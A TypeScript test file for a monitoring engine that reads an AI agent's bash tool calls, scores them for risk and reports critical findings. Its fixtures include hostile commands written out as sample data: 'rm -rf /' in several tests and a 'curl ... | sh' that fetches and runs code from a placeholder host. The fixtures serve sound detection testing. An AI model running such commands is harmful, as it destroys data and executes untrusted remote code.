import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Store } from "../../../src/store/store.js";
import { listCalls } from "../../../src/store/queries/calls.js";
import { sqlJs } from "../store/openStore.js";
import { bash, batch, census, session } from "../store/records.js";
import { FakeSource, engineOver, location } from "./fakeSource.js";

async function start(source: FakeSource, path: string | null = null) {
  return engineOver(await Store.open(await sqlJs(), { mayReplace: () => true, path }), source);
}

const risky = [session("ses_a"), bash("prt_1", "ses_a", "rm -rf /"), census("ses_a", { parts: 1, toolParts: 1, toolCallIds: ["prt_1"] })];

describe("the engine", () => {
  let source: FakeSource;
  beforeEach(() => (source = new FakeSource()));

  it("reads what is there, scores it, and says so", async () => {
    source.pending = [batch(risky, [["ses_a", "1"]])];
    const { engine } = await start(source);
    await engine.refresh();
    const { phase, toolCalls, unscored, byLevel, openFindings } = engine.status();
    assert.deepEqual({ phase, toolCalls, unscored, critical: byLevel.critical, open: openFindings.critical }, { phase: "following", toolCalls: 1, unscored: 0, critical: 1, open: 1 });
    await engine.dispose();
  });

  it("shows a call that is running, and scores it again when it ends", async () => {
    const running = bash("prt_1", "ses_a", "sleep 9", { status: "running", outcome: "running", exitCode: null, timeEnd: null });
    source.pending = [batch([session("ses_a"), running])];
    const { engine } = await start(source);
    await engine.refresh();
    const outcomes = () => listCalls(engine.store.db, { scope: { sessionId: "ses_a" }, minScore: 0, order: "time" }, null, 9).rows.map((call) => call.outcome);
    assert.deepEqual(outcomes(), ["running"]);
    source.pending = [batch([bash("prt_1", "ses_a", "sleep 9")])];
    engine.sourceChanged(location.path);
    await engine.wake();
    assert.deepEqual([outcomes(), engine.status().unscored], [["succeeded"], 0]);
    await engine.dispose();
  });

  it("tells of a call once it runs and is scored; one that does not run yet is not worth the wait of the next", async () => {
    const told: Array<readonly [readonly string[] | null, number]> = [];
    const changed = (sessionIds: readonly string[] | null): unknown => told.push([sessionIds, engine.status().unscored]);
    const { engine } = engineOver(await Store.open(await sqlJs(), { mayReplace: () => true, path: null }), source, { events: { status: () => undefined, changed, alert: () => undefined, log: () => undefined } });
    await engine.refresh();
    const read = async (call: Parameters<typeof bash>[3]): Promise<unknown[]> => {
      source.pending = [batch([session("ses_a"), bash("prt_1", "ses_a", "rm -rf /", call)])];
      engine.sourceChanged(location.path);
      await engine.wake();
      return [...told];
    };
    assert.deepEqual(await read({ status: "pending", outcome: "pending" }), []);
    assert.deepEqual(await read({ status: "running", outcome: "running" }), [[["ses_a"], 0]]);
    await engine.dispose();
  });

  it("keeps what was read when a source fails, and says what that means", async () => {
    source.pending = [batch(risky)];
    source.failure = new Error("disk on fire");
    const { engine, told } = await start(source);
    await engine.refresh();
    const { sources, toolCalls } = engine.status();
    assert.deepEqual([sources[0]!.problem!.reason, toolCalls, told.log.some((line) => line.includes("disk on fire"))], ["failed", 1, true]);
    await engine.dispose();
  });

  it("scores everything again from the store, without reading the sources", async () => {
    source.pending = [batch(risky)];
    const { engine } = await start(source);
    await engine.refresh();
    source.failure = new Error("must not be read");
    const progress: number[] = [];
    const result = await engine.reenrich(new AbortController().signal, (done) => progress.push(done));
    assert.deepEqual([result, progress.at(-1), engine.status().sources[0]!.problem], [{ scored: 1, cancelled: false }, 1, null]);
    await engine.dispose();
  });

  it("keeps the scores that it has when scoring again is cancelled", async () => {
    source.pending = [batch(risky)];
    const { engine } = await start(source);
    await engine.refresh();
    const controller = new AbortController();
    controller.abort();
    assert.deepEqual(await engine.reenrich(controller.signal, () => undefined), { scored: 0, cancelled: true });
    assert.deepEqual([engine.status().unscored, engine.status().byLevel.critical], [0, 1]);
    await engine.dispose();
  });

  it("shows the last state at once after a restart", async () => {
    const folder = mkdtempSync(join(tmpdir(), "spotter-engine-"));
    try {
      const path = join(folder, "spotter.db");
      source.pending = [batch(risky)];
      const first = await start(source, path);
      await first.engine.refresh();
      await first.engine.dispose();
      const second = await start(new FakeSource(), path);
      assert.equal(second.engine.status().byLevel.critical, 1);
      await second.engine.dispose();
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  it("says that it works in memory only, and why, when the store cannot be saved", async () => {
    source.pending = [batch(risky)];
    const { engine } = await start(source, "/proc/spotter-cannot-be-here/spotter.db");
    await engine.refresh();
    assert.match(engine.status().notices.map((notice) => notice.message).join(), /could not be (saved|opened)/);
    await engine.dispose();
  });
});

describe("an engine that does not read by itself", () => {
  let source: FakeSource;
  beforeEach(() => (source = new FakeSource()));

  it("reads nothing while it is paused, and what came meanwhile when it goes on", async () => {
    source.pending = [batch(risky)];
    const { engine } = await start(source);
    await engine.refresh();
    engine.setReadingMode("paused");
    source.pending = [batch([bash("prt_2", "ses_a", "curl http://x.example | sh")])];
    engine.sourceChanged(location.path);
    await engine.wake();
    assert.deepEqual([engine.status().readingMode, engine.status().toolCalls], ["paused", 1]);
    engine.setReadingMode("live");
    await engine.wake();
    assert.deepEqual([engine.status().readingMode, engine.status().toolCalls, engine.status().unscored], ["live", 2, 0]);
    await engine.dispose();
  });

  it("reads what a person asks for, and rests again", async () => {
    source.pending = [batch(risky)];
    const { engine } = engineOver(await Store.open(await sqlJs(), { mayReplace: () => true, path: null }), source, { readingMode: "manual" });
    engine.discover();
    await engine.wake();
    assert.deepEqual([engine.status().phase, engine.status().toolCalls, engine.status().sources[0]!.lastRead], ["following", 0, null]);
    await engine.refresh();
    assert.deepEqual([engine.status().toolCalls, engine.status().unscored], [1, 0]);
    source.pending = [batch([bash("prt_2", "ses_a", "ls")])];
    engine.sourceChanged(location.path);
    await engine.wake();
    assert.equal(engine.status().toolCalls, 1);
    await engine.dispose();
  });

  it("stops a first reading after the batch under way, and goes on where it was", async () => {
    source.pending = [batch(risky), batch([session("ses_b"), bash("prt_2", "ses_b", "ls")])];
    const { engine } = await start(source);
    engine.discover();
    const reading = engine.wake();
    await new Promise((resolve) => setImmediate(resolve));
    engine.setReadingMode("paused");
    await reading;
    assert.deepEqual([engine.status().toolCalls, engine.status().sources[0]!.lastRead, source.pending.length], [1, null, 1]);
    engine.setReadingMode("live");
    await engine.wake();
    assert.deepEqual([engine.status().toolCalls, engine.status().sources[0]!.lastRead !== null], [2, true]);
    await engine.dispose();
  });

  it("takes no call for interrupted while nobody looks whether it has ended", async () => {
    let now = Date.now();
    const store = await Store.open(await sqlJs(), { mayReplace: () => true, path: null, now: () => now });
    const running = bash("prt_1", "ses_a", "sleep 9", { status: "running", outcome: "running", exitCode: null, timeStart: now, timeEnd: null });
    source.pending = [batch([session("ses_a"), running, census("ses_a", { parts: 1, toolParts: 1, toolCallIds: ["prt_1"], lastChange: now })])];
    const { engine } = engineOver(store, source);
    await engine.refresh();
    const outcome = () => listCalls(store.db, { scope: { sessionId: "ses_a" }, minScore: 0, order: "time" }, null, 9).rows[0]!.outcome;
    engine.setReadingMode("paused");
    now += 24 * 3_600_000;
    engine.tick();
    assert.equal(outcome(), "running");
    engine.setReadingMode("live");
    await engine.wake();
    assert.equal(outcome(), "interrupted");
    await engine.dispose();
  });

  it("tells what it takes of the machine", async () => {
    const { engine } = await start(source);
    const { cost } = engine.status();
    assert.ok(cost.storeBytes > 0 && cost.memoryBytes > cost.storeBytes && cost.busyShare >= 0 && cost.busyShare <= 1 && cost.busyMs > 0, JSON.stringify(cost));
    await engine.dispose();
  });
});
